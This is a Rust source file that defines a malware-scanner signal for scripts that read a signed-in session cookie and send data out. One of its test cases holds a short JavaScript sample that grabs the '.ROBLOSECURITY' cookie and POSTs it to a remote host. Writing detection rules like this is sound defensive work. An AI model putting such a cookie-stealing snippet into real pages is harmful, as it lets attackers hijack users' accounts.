//! `session-cookie-taken`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "session-cookie-taken",
    description: "The script looks for the cookie of a signed-in session and sends data out.",
    severity: Severity::Medium,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::SessionName]),
        one(&[Atom::Cookie, Atom::Storage]),
        one(&[Atom::Request, Atom::Beacon, Atom::Socket, Atom::AddressFromData]),
    ],
    within: 500,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var t=get('.ROBLOSECURITY');function get(n){return document.cookie.split(n+'=')[1]}x=new XMLHttpRequest;x.open('POST',h);x.send(t)",
        ],
        without: &[
            "var t=get('theme');function get(n){return document.cookie.split(n+'=')[1]}fetch('/t?'+t)",
        ],
    },
};
